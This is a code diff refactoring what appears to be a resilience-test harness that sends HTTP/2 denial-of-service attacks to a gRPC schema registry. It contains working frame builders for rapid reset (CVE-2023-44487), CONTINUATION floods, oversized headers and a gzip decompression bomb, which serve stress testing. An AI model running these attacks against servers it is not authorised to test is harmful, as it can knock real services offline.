@@ -34,6 +34,8 @@ from devtools.http2_frames import (
     PREFACE,
     RST_STREAM,
     SETTINGS,
+    WINDOW_UPDATE,
+    field_lines,
     frame,
     frames_of,
     grpc_fields,
@@ -43,10 +45,17 @@ from schemaregistry.v1 import registry_pb2 as pb
 from schemaregistry.v1.registry_pb2_grpc import SchemaRegistryStub
 
 SERVICE: Final = "/schemaregistry.v1.SchemaRegistry"
-EMPTY: Final = frame(DATA, END_STREAM, 1, b"\0\0\0\0\0")
-"""The data of a gRPC message without a byte, on stream 1."""
-CODES: Final = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 7: "REFUSED_STREAM", 8: "CANCEL"}
-CODES_MORE: Final = {9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM"}
+EMPTY: Final = b"\0\0\0\0\0"
+"""A gRPC message without a byte."""
+CODES: Final = {
+    0: "NO_ERROR",
+    1: "PROTOCOL_ERROR",
+    2: "INTERNAL_ERROR",
+    7: "REFUSED_STREAM",
+    8: "CANCEL",
+    9: "COMPRESSION_ERROR",
+    11: "ENHANCE_YOUR_CALM",
+}
 FRAMES: Final = {HEADERS: "answered", RST_STREAM: "stream reset", GOAWAY: "told to go away"}
 
 
@@ -115,7 +124,7 @@ def _reason(kind: int, payload: bytes) -> str:
     if kind == HEADERS:
         return ""
     code = int.from_bytes(payload[4:8] if kind == GOAWAY else payload[:4])
-    return f": {CODES.get(code) or CODES_MORE.get(code, code)}"
+    return f": {CODES.get(code, code)}"
 
 
 Attack = Callable[[Place], Awaitable[None]]
@@ -222,7 +231,7 @@ def flood(sent: Callable[[int], bytes]) -> Attack:
 def rapid_reset(stream: int) -> bytes:
     """A call that is given up in the same breath (CVE-2023-44487)."""
     call = frame(HEADERS, END_HEADERS, stream, grpc_fields(f"{SERVICE}/ListSchemas"))
-    return call + EMPTY.replace(b"\0\0\0\1", struct.pack("!I", stream), 1) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
+    return call + frame(DATA, END_STREAM, stream, EMPTY) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
 
 
 def continuation(stream: int) -> bytes:
@@ -231,8 +240,9 @@ def continuation(stream: int) -> bytes:
     return frame(HEADERS if stream == 1 else CONTINUATION, 0, 1, piece)
 
 
-MORE: Final = b"".join(b"\0\x7e" + b"c" * 126 + b"\x7e" + b"d" * 126 for _ in range(60))
-LARGEST: Final = b"".join(b"\0\x7e" + b"c" * 126 + b"\x7e" + b"d" * 126 for _ in range(63))
+FIELD: Final = field_lines({"c" * 126: "d" * 126})
+MORE: Final = FIELD * 60
+LARGEST: Final = FIELD * 63
 
 
 def large_fields(stream: int) -> bytes:
@@ -259,7 +269,7 @@ async def bomb(place: Place) -> None:
     """Messages to gRPC that are a MiB compressed, and a GiB read."""
     packed = gibibyte()
     async with place.http("h2") as (reader, writer):
-        writer.write(PREFACE + frame(SETTINGS, 0, 0) + frame(8, 0, 0, struct.pack("!I", 1 << 30)))
+        writer.write(PREFACE + frame(SETTINGS, 0, 0) + frame(WINDOW_UPDATE, 0, 0, struct.pack("!I", 1 << 30)))
         fields = grpc_fields(f"{SERVICE}/ValidateRecords", grpc_encoding="gzip")
         listening = asyncio.create_task(place.listen(reader))
         for stream in range(1, 17, 2):
@@ -334,7 +344,7 @@ AT_MOST: Final = 120
 
 async def attack(place: Place, name: str, seconds: float) -> None:
     """Attack for some seconds, and then until the attacker was told what is in TOLD."""
-    task = asyncio.create_task(_run(ATTACKS[name], place))
+    task = asyncio.ensure_future(ATTACKS[name](place))
     await asyncio.wait({task}, timeout=seconds)
     for _ in range(AT_MOST):
         if name not in TOLD or TOLD[name] in place.told:
@@ -342,10 +352,6 @@ async def attack(place: Place, name: str, seconds: float) -> None:
         await asyncio.wait({task}, timeout=1)
     task.cancel()
     await asyncio.wait({task})
-
-
-async def _run(chosen: Attack, place: Place) -> None:
-    await chosen(place)
 
 
 def main() -> None:
